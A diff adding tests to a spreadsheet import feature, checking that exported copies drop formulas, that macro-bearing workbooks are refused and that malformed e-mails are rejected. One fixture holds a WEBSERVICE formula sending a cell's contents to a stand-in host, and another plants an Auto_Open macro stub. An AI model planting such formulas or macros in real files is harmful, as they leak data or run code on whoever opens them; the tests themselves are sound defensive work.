@@ -1,5 +1,7 @@
+import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
 import { readXlsx } from 'hucre/xlsx'
 import { Problem } from '#contract/kernel/problem.ts'
+import { fields } from '#contract/words/vi.ts'
 import type { Queryable } from '#server/platform/db.ts'
 import { peopleImport } from '#server/identity/index.ts'
 import { workbookOf } from '#server/platform/tables/testing.ts'
@@ -148,6 +150,41 @@ test('the same sheet comes back with its bad cells red and a note on each', asyn
   const noted = [...(sheet?.cells ?? [])].filter(([, cell]) => cell.comment)
   expect(noted.map(([key]) => key).toSorted()).toEqual(['19,4', '52,6', '85,1'])
   expect(noted.find(([key]) => key === '19,4')?.[1].comment?.text).toContain('Viên chức Trung tâm')
+})
+
+test('the marked copy shows what formulas gave and carries none of them: nothing is fetched when it is opened', async ({
+  as,
+}) => {
+  const at = await centreOf(as)
+  const spy = { value: 'Ấp 1', formula: 'WEBSERVICE("http://do-tham.example/"&A2)' }
+  const bytes = workbookOf([
+    ['Họ và tên', 'Tên đăng nhập', 'Vai trò', 'Đơn vị', 'Ghi chú'],
+    ['Nguyễn Văn A', 'canbo.a', 'Viên chức Trung tân', at, spy],
+  ])
+  const { id } = await checkFile(as.administrator, 'people', bytes)
+  const { body } = await as.administrator.ask('tables.marked', { id })
+  const parts = Object.values(unzipSync(body)).map((part) => strFromU8(part))
+  expect(parts.filter((part) => /WEBSERVICE|do-tham|<f[ >]/.test(part))).toEqual([])
+  const [sheet] = (await readXlsx(body)).sheets
+  expect(sheet?.rows[1]).toEqual(['Nguyễn Văn A', 'canbo.a', 'Viên chức Trung tân', at, 'Ấp 1'])
+})
+
+test('a workbook with a macro is refused when it comes, in words', async ({ as }) => {
+  const parts = unzipSync(officers(1, await centreOf(as)))
+  const bytes = new Uint8Array(zipSync({ ...parts, 'xl/vbaProject.bin': strToU8('Sub Auto_Open()') }))
+  const refused = await refusalOf(
+    as.administrator.do('tables.receive', { kind: 'people', name: 'a.xlsx', bytes }),
+  )
+  expect(refused.fields).toMatchObject([{ path: ['file'], code: 'table.macro' }])
+  expect(fields['table.macro']).toContain('macro')
+})
+
+test('an e-mail address that the form of one person refuses is refused in a table too', async ({ as }) => {
+  const typed = ['an@so.example', 'a..n@so.example', 'an@so', 'a<b>@so.example']
+  const bytes = officers(typed.length, await centreOf(as), (row, i) => row.with(2, typed[i] ?? ''))
+  const { id } = await checkFile(as.administrator, 'people', bytes)
+  const { problems } = await as.administrator.ask('tables.report', { id, part: 'problems' })
+  expect(problems.map(({ address }) => address)).toEqual(['C4', 'C5', 'C6'])
 })
 
 test('phones and addresses are masked in the report', async ({ as }) => {
